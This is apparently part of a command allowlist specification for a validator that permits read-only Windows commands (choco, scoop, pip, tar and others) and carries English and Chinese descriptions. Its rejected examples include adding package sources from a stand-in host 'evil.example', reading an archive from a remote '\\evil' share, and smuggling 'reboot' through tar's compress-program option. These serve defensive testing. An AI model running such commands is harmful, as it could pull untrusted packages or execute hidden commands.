  -i --include-programs | programs of Windows too | 包括系统程序
  --by-id-only | by id | 按标识
  operands /[\w][\w.+-]*/?
  = choco list
  = choco list -lo
  = choco outdated
  ! choco install x
  ! choco upgrade all
  ! choco uninstall x
  ! choco list --log-file=C:\x
  ! choco source add -n=x -s=http://evil.example
  ! choco list --source=C:\x

choco: source, source list, sources, sources list, pin list, feature list, features | shows sources and settings | 查看来源与功能
  -r --limit-output --limitoutput | in brief | 简要输出
  = choco source list
  = choco pin list
  ! choco source add
  ! choco source disable -n=x
  ! choco source remove x
  ! choco feature enable -n=x

choco: info, search, find | shows programs that can be installed | 查看可安装的软件包
  -r --limit-output --limitoutput | in brief | 简要输出
  -e --exact | exactly | 完全匹配
  -a --all-versions --allversions | all versions | 所有版本
  -v --verbose | verbose | 详细显示
  operands /[\w][\w.+-]*/
  network
  = choco search python
  = choco info git
  ! choco search x --source=C:\x
  ! choco download x

scoop: list, info, which, prefix, bucket list, search | shows programs of Scoop | 查看 Scoop 软件包
  style gnu
  from Scoop documentation
  operands /[\w][\w.+-]*/?
  = scoop list
  = scoop info git
  ! scoop install x
  ! scoop uninstall x
  ! scoop bucket add x http://evil.example
  ! scoop update
  ! scoop cache rm x

python, python3 | shows the version of Python | 查看 Python 版本
  style word
  from Python 3.12 documentation, Using Python on Windows
  --version -V -VV !needed | version | 版本
  = python --version
  = python -V
  ! python
  ! python x.py
  ! python --version x.py
  ! python -m http.server
  ! python -c "import os"

npm | shows the version of npm | 查看 npm 版本
  style word
  from npm 10 documentation
  -v !needed | version | 版本
  = npm -v
  ! npm -v install x

java | shows the version of Java | 查看 Java 版本
  style word
  from JDK 17 documentation, java
  -version !needed | version | 版本
  = java -version
  = java.exe -version
  ! java -version -jar x.jar

pip, pip3: list, freeze, check | lists Python packages | 列出 Python 包
  style word
  from pip 23 documentation
  = pip list
  = pip freeze
  ! pip list --log x
  ! pip install x

pip, pip3: show | shows a Python package | 显示 Python 包详情
  operands /[a-z0-9][\w.-]{0,80}/+
  = pip show paho-mqtt
  = pip show a b
  ! pip show --log x a

node | shows the version of Node.js | 查看 Node.js 版本
  style word
  from Node.js 20 documentation
  -v !needed | version | 版本
  = node -v
  = node.exe -v
  ! node -v x.js

mosquitto | shows the help of Mosquitto | 查看 Mosquitto 帮助
  style word
  from mosquitto(8) 2.0
  -h --help !needed | help | 帮助
  = mosquitto -h
  = mosquitto --help
  ! mosquitto
  ! mosquitto -v
  ! mosquitto -c x.conf
  ! mosquitto -h -c x.conf

chkntfs | shows whether a disk is checked at the start | 查看启动时是否检查磁盘
  style slash
  from Windows Commands reference, chkntfs
  operands /[a-z]:/
  = chkntfs C:
  = chkntfs D:
  ! chkntfs /x C:
  ! chkntfs /d
  ! chkntfs /t:5
  ! chkntfs C: /c

py | shows the Pythons that are installed | 查看已安装的 Python
  style word
  from Python 3.12 documentation, Python Launcher for Windows
  --version -V --list -0 --list-paths -0p !needed | versions | 版本
  = py --list
  = py -0p
  ! py
  ! py x.py
  ! py -3 --version x.py
  ! py -m pip install x

dotnet | shows what of .NET is installed | 查看已安装的 .NET
  style word
  from .NET CLI documentation, dotnet
  --info --version --list-sdks --list-runtimes !needed | versions | 版本
  = dotnet --info
  = dotnet --list-runtimes
  ! dotnet run
  ! dotnet x.dll
  ! dotnet --info x.dll

# The ending keeps devices and pipes out.
tar | lists an archive | 列出归档内容
  style gnu
  from libarchive 3.5 bsdtar(1) as shipped with Windows 10
  bare same
  -t !needed | lists | 列出
  -v | in detail | 详细信息
  -z -j -J | compressed | 压缩格式
  -f=/${PLACE}\.(?:tar|gz|tgz|bz2|tbz2|xz|txz|zst|zip|7z|jar|iso)/ | archive | 归档文件
  = tar -tf C:\x\backup.tar
  = tar -tvf backup.zip
  = tar tf backup.tar.gz
  ! tar -xf backup.tar
  ! tar -cf backup.tar x
  ! tar -tf \\evil\share\x.tar
  ! tar -tf backup.tar --use-compress-program reboot
  ! tar -tf backup.tar -T C:\x
`
